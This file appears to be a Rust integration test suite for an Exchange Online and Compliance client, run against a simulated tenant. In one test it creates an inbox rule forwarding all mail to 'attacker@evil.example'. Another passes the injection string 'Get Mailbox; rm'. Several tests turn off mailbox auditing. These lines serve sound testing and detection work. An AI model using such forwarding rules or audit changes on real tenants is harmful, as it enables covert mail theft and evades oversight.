//! Exchange Online and Security & Compliance against the simulator, over HTTP.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use cipp_core::{Pipeline, RetryPolicy};
use cipp_exchange::{Anchor, ExchangeCache, ExchangeClient, ExchangeError};
use cipp_sim::{FaultRule, FaultScope, Sim};
use serde_json::{json, Value};
use std::time::Duration;

fn pipeline(sim: &Sim) -> Pipeline {
    cipp_testkit::pipeline_builder(sim)
        .unwrap()
        .retry(RetryPolicy::default().with_base_delay(Duration::from_millis(5)))
        .build()
        .unwrap()
}

const ALPHA: &str = "alphadental.com";
/// A tenant with only a pending GDAP invitation: no tokens for it.
const OTHER: &str = "echohospitality.onmicrosoft.com";

fn exchange_requests(sim: &Sim, kind: &str) -> Vec<cipp_sim::RequestRecord> {
    sim.requests()
        .into_iter()
        .filter(|r| r.kind == kind)
        .collect()
}

#[tokio::test]
async fn reads_mailboxes_typed_and_raw_with_select() {
    let sim = Sim::start().await.unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let mailboxes = exo.mailboxes().await.unwrap();
    let seeded = sim.exchange_objects(ALPHA, "Mailbox", false).unwrap();
    assert_eq!(mailboxes.len(), seeded.len());
    assert!(mailboxes
        .iter()
        .any(|m| m.recipient_type_details.as_deref() == Some("SharedMailbox")));
    assert!(mailboxes.iter().all(|m| m.extra.contains_key("Guid")));

    let rows = exo
        .cmdlet("Get-Mailbox")
        .param("ResultSize", "Unlimited")
        .select(["UserPrincipalName", "RecipientTypeDetails"])
        .rows()
        .await
        .unwrap();
    assert_eq!(rows.len(), seeded.len());
    let keys: Vec<&String> = rows[0].as_object().unwrap().keys().collect();
    assert_eq!(keys.len(), 2, "$select trims the rows: {keys:?}");

    // The URL carries the tenant GUID, the token is Exchange's, in the customer tenant.
    let guid = sim.tenants()[0].id.clone();
    let reqs = exchange_requests(&sim, "exchange");
    assert!(reqs.iter().all(|r| r.path.contains(&guid)));
    assert!(reqs
        .iter()
        .all(|r| r.token_aud.as_deref() == Some("https://outlook.office365.com")));
    assert!(reqs
        .iter()
        .all(|r| r.token_tid.as_deref() == Some(guid.as_str())));

    let org = exo.organization_config().await.unwrap();
    assert_eq!(org.audit_disabled, Some(false));
    assert!(!exo.accepted_domains().await.unwrap().is_empty());
    assert!(!exo
        .hosted_outbound_spam_filter_policies()
        .await
        .unwrap()
        .is_empty());
    assert!(exo.transport_rules().await.unwrap().is_empty());
}

#[tokio::test]
async fn pages_are_followed_by_reposting_to_the_next_link() {
    let sim = Sim::start().await.unwrap();
    sim.generate_mailboxes(ALPHA, 2_300).unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let out = exo
        .cmdlet("Get-Mailbox")
        .param("ResultSize", "Unlimited")
        .select(["UserPrincipalName"])
        .invoke()
        .await
        .unwrap();
    let total = sim.exchange_objects(ALPHA, "Mailbox", false).unwrap().len();
    assert_eq!(out.rows.len(), total);
    assert_eq!(out.pages, 3);
    let mut upns: Vec<&str> = out
        .rows
        .iter()
        .map(|r| r["UserPrincipalName"].as_str().unwrap())
        .collect();
    upns.sort_unstable();
    upns.dedup();
    assert_eq!(upns.len(), total, "no row twice, none lost");
    let posts = exchange_requests(&sim, "exchange");
    assert_eq!(posts.iter().filter(|r| r.method == "POST").count(), 3);
}

/// Mailboxes generated for a benchmark look like seeded ones to the standards: the same
/// properties, a Get-User account, and the same writes accepted.
#[tokio::test]
async fn generated_mailboxes_are_complete_like_seeded_ones() {
    let sim = Sim::start().await.unwrap();
    sim.generate_mailboxes(ALPHA, 3).unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let mailboxes = exo.cmdlet("Get-Mailbox").rows().await.unwrap();
    let users = exo.cmdlet("Get-User").rows().await.unwrap();
    assert_eq!(users.len(), mailboxes.len(), "one account per mailbox");
    for m in &mailboxes {
        let upn = m["UserPrincipalName"].as_str().unwrap();
        for key in ["RecipientLimits", "ArchiveStatus", "IsDirSynced"] {
            assert!(!m[key].is_null(), "{upn}: no {key}");
        }
        if m["RecipientTypeDetails"] == "UserMailbox" {
            assert!(!m["MailboxPlanId"].is_null(), "{upn}: no mailbox plan");
        }
    }
    // Generated mailboxes come after the seeded ones.
    let generated = mailboxes.last().unwrap()["UserPrincipalName"]
        .as_str()
        .unwrap()
        .to_string();
    exo.cmdlet("Set-Mailbox")
        .param("Identity", generated.as_str())
        .param("RecipientLimits", 300)
        .invoke()
        .await
        .unwrap();
}

#[tokio::test]
async fn writes_warnings_and_typed_cmdlet_errors() {
    let sim = Sim::start().await.unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let target = exo.mailboxes().await.unwrap()[0]
        .user_principal_name
        .clone()
        .unwrap();

    let out = exo
        .cmdlet("Set-Mailbox")
        .param("Identity", target.as_str())
        .param("AuditEnabled", false)
        .invoke()
        .await
        .unwrap();
    assert!(out.warnings.is_empty());
    assert_eq!(
        exo.mailbox(&target).await.unwrap().audit_enabled,
        Some(false)
    );

    // The same change again: Exchange succeeds with a warning.
    let again = exo
        .cmdlet("Set-Mailbox")
        .param("Identity", target.as_str())
        .param("AuditEnabled", false)
        .invoke()
        .await
        .unwrap();
    assert_eq!(again.warnings.len(), 1, "{again:?}");
    assert!(again.warnings[0].contains("no settings"));

    let err = exo
        .cmdlet("Get-Mailbox")
        .param("Identity", "nobody@alphadental.com")
        .invoke()
        .await
        .unwrap_err();
    let c = err.as_cmdlet().expect("a cmdlet error");
    assert_eq!(c.cmdlet, "Get-Mailbox");
    assert_eq!(c.tenant, ALPHA);
    assert_eq!(c.code.as_deref(), Some("Ex6F9304"));
    assert_eq!(c.short_type(), Some("ManagementObjectNotFoundException"));
    assert!(c.message.contains("nobody@alphadental.com"), "{c}");
    assert!(err.is_not_found());

    let err = exo
        .cmdlet("Set-Mailbox")
        .param("Identity", target.as_str())
        .param("NoSuchSetting", 1)
        .invoke()
        .await
        .unwrap_err();
    assert_eq!(
        err.as_cmdlet().unwrap().short_type(),
        Some("ParameterBindingException")
    );

    let err = exo
        .cmdlet("Get-Mailbox")
        .param("NoSuchSwitch", true)
        .invoke()
        .await
        .unwrap_err();
    assert!(err.as_cmdlet().unwrap().message.contains("NoSuchSwitch"));

    let err = exo.cmdlet("Get-Nothing").invoke().await.unwrap_err();
    assert_eq!(
        err.as_cmdlet().unwrap().short_type(),
        Some("CommandNotFoundException")
    );
    // Bad input never leaves the process.
    let before = sim.requests().len();
    assert!(matches!(
        exo.cmdlet("Get Mailbox; rm").invoke().await,
        Err(ExchangeError::InvalidInput { .. })
    ));
    assert!(matches!(
        exo.cmdlet("Get-Mailbox").params(json!([1, 2])),
        Err(ExchangeError::InvalidInput { .. })
    ));
    assert_eq!(sim.requests().len(), before);
}

#[tokio::test]
async fn anchors_follow_the_cmdlet_and_the_mailbox() {
    let sim = Sim::start().await.unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    // The simulator refuses Set-AdminAuditLogConfig anchored on the ordinary system mailbox.
    let wrong = exo
        .cmdlet("Set-AdminAuditLogConfig")
        .param("UnifiedAuditLogIngestionEnabled", true)
        .anchor(Anchor::SystemMailbox)
        .invoke()
        .await
        .unwrap_err();
    assert!(wrong.as_cmdlet().is_some(), "{wrong}");
    exo.cmdlet("Set-AdminAuditLogConfig")
        .param("UnifiedAuditLogIngestionEnabled", true)
        .invoke()
        .await
        .unwrap();
    assert_eq!(
        exo.admin_audit_log_config()
            .await
            .unwrap()
            .unified_audit_log_ingestion_enabled,
        Some(true)
    );

    // Inbox rules: created and read anchored on the mailbox; an object id anchor is looked up.
    let mailbox = exo.mailboxes().await.unwrap().remove(0);
    let upn = mailbox.user_principal_name.clone().unwrap();
    exo.cmdlet("New-InboxRule")
        .param("Mailbox", upn.as_str())
        .param("Name", "Forward all")
        .param("ForwardTo", json!(["attacker@evil.example"]))
        .anchor(Anchor::mailbox(upn.as_str()))
        .invoke()
        .await
        .unwrap();
    let rules = exo.inbox_rules(&upn).await.unwrap();
    assert_eq!(rules.len(), 1);
    assert!(rules[0].sends_mail_out());
    let oid = mailbox.extra["ExternalDirectoryObjectId"].as_str().unwrap();
    let rows = exo
        .cmdlet("Get-InboxRule")
        .param("Mailbox", upn.as_str())
        .anchor(Anchor::mailbox(oid))
        .rows()
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    assert!(sim
        .requests()
        .iter()
        .any(|r| r.kind == "graph" && r.path.ends_with(oid)));
}

#[tokio::test]
async fn compliance_host_is_discovered_once_per_tenant() {
    let sim = Sim::start().await.unwrap();
    let cache = ExchangeCache::new();
    let exo = ExchangeClient::builder(pipeline(&sim), ALPHA)
        .cache(cache.clone())
        .build();
    let ipps = exo.compliance();
    let labels = ipps.cmdlet("Get-Label").rows().await.unwrap();
    assert_eq!(labels[0]["Name"], "General");
    ipps.cmdlet("Get-Label").rows().await.unwrap();
    // A new client sharing the cache does not ask again.
    let other = ExchangeClient::builder(pipeline(&sim), ALPHA)
        .cache(cache.clone())
        .build()
        .compliance();
    other
        .cmdlet("Get-DlpCompliancePolicy")
        .rows()
        .await
        .unwrap();
    let reqs = exchange_requests(&sim, "compliance");
    let banners = reqs.iter().filter(|r| r.path.contains("EXOBanner")).count();
    assert_eq!(banners, 1, "{reqs:#?}");
    let guid = sim.tenants()[0].id.clone();
    let host = cache.compliance_host(&guid).unwrap();
    // The simulator puts Alpha (the first customer, after the partner) in its second region.
    assert!(host.ends_with("/compliance/eur03b"), "{host}");
    let invokes: Vec<_> = reqs
        .iter()
        .filter(|r| r.path.ends_with("InvokeCommand"))
        .collect();
    assert_eq!(invokes.len(), 3);
    assert!(invokes.iter().all(|r| r.status == 200
        && r.path.starts_with("/compliance/")
        && r.path.split('/').nth(2) != Some("adminapi")));
    assert!(invokes
        .iter()
        .all(|r| r.token_aud.as_deref() == Some("https://ps.compliance.protection.outlook.com")));
}

#[tokio::test]
async fn throttled_calls_wait_and_succeed() {
    let sim = Sim::start().await.unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    sim.faults()
        .add_rule(FaultRule::throttle("/InvokeCommand", 0, 2).with_scope(FaultScope::Request));
    let rows = exo.cmdlet("Get-AcceptedDomain").rows().await.unwrap();
    assert!(!rows.is_empty());
    let statuses: Vec<u16> = exchange_requests(&sim, "exchange")
        .iter()
        .map(|r| r.status)
        .collect();
    assert_eq!(statuses, vec![429, 429, 200]);
}

#[tokio::test]
async fn bulk_runs_ten_per_batch_and_reports_every_operation() {
    let sim = Sim::start().await.unwrap();
    sim.generate_mailboxes(ALPHA, 20).unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let upns: Vec<String> = exo
        .mailboxes()
        .await
        .unwrap()
        .into_iter()
        .filter_map(|m| m.user_principal_name)
        .take(23)
        .collect();
    assert_eq!(upns.len(), 23);
    let mut ops: Vec<_> = upns
        .iter()
        .map(|u| {
            exo.cmdlet("Set-Mailbox")
                .id(u.as_str())
                .param("Identity", u.as_str())
                .param("AuditEnabled", false)
        })
        .collect();
    ops.push(
        exo.cmdlet("Set-Mailbox")
            .id("ghost")
            .param("Identity", "ghost@alphadental.com")
            .param("AuditEnabled", false),
    );
    ops.push(
        exo.cmdlet("Get-Mailbox")
            .id("all")
            .select(["UserPrincipalName"]),
    );
    // Two throttled items: they are resent after Retry-After, not lost.
    sim.faults()
        .add_rule(FaultRule::throttle("/InvokeCommand", 0, 2).with_scope(FaultScope::BatchItem));
    sim.clear_requests();
    let result = exo.bulk(ops).await.unwrap();
    assert_eq!(result.operations.len(), 25);
    let failures: Vec<_> = result.failures().collect();
    assert_eq!(failures.len(), 1, "{failures:#?}");
    assert_eq!(failures[0].id, "ghost");
    let e = failures[0].outcome.as_ref().unwrap_err();
    assert!(e.is_not_found(), "{e}");
    assert_eq!(
        result
            .get("all")
            .unwrap()
            .outcome
            .as_ref()
            .unwrap()
            .rows
            .len(),
        sim.exchange_objects(ALPHA, "Mailbox", false).unwrap().len()
    );
    for u in &upns {
        assert!(result.get(u).unwrap().is_success());
    }
    let audited_off = sim
        .exchange_objects(ALPHA, "Mailbox", false)
        .unwrap()
        .iter()
        .filter(|m| m["AuditEnabled"] == Value::Bool(false))
        .count();
    assert_eq!(audited_off, 23);
    let batches = exchange_requests(&sim, "exchange");
    assert!(batches.iter().all(|r| r.path.ends_with("$batch")));
    assert!(batches.iter().all(|r| r.batch_size.unwrap() <= 10));
    // 25 operations = 3 batches, plus one for the 2 throttled items.
    assert_eq!(batches.len(), 4, "{batches:#?}");
    assert_eq!(result.round_trips, 4);

    // Duplicate ids are refused before anything is sent.
    let dup = exo
        .bulk([
            exo.cmdlet("Get-Mailbox").id("x"),
            exo.cmdlet("Get-Mailbox").id("x"),
        ])
        .await;
    assert!(matches!(dup, Err(ExchangeError::InvalidInput { .. })));
}

#[tokio::test]
async fn lists_available_cmdlets() {
    let sim = Sim::start().await.unwrap();
    let exo = ExchangeClient::new(pipeline(&sim), ALPHA);
    let names = exo.available_cmdlets().await.unwrap();
    assert!(names.iter().any(|n| n == "Get-Mailbox"));
    assert!(names.iter().any(|n| n == "Set-TransportConfig"));
}

#[tokio::test]
async fn wrong_tenants_are_typed_errors_naming_the_tenant() {
    let sim = Sim::start().await.unwrap();
    let p = pipeline(&sim);
    let unknown = ExchangeClient::new(p.clone(), "no-such-tenant.example");
    let err = unknown.cmdlet("Get-Mailbox").invoke().await.unwrap_err();
    assert!(matches!(err, ExchangeError::Api(_)), "{err:?}");
    assert!(err.to_string().contains("no-such-tenant.example"), "{err}");
    // A tenant that exists but is no customer: Entra refuses the token, nothing reaches Exchange.
    let other = sim.requests().len();
    let stranger = ExchangeClient::new(p, OTHER);
    let err = stranger.cmdlet("Get-Mailbox").invoke().await.unwrap_err();
    let core: cipp_core::Error = err.into();
    assert!(matches!(core, cipp_core::Error::Auth(_)), "{core:?}");
    assert_eq!(core.tenant(), Some(OTHER));
    assert!(sim.requests()[other..].iter().all(|r| r.kind != "exchange"));
}
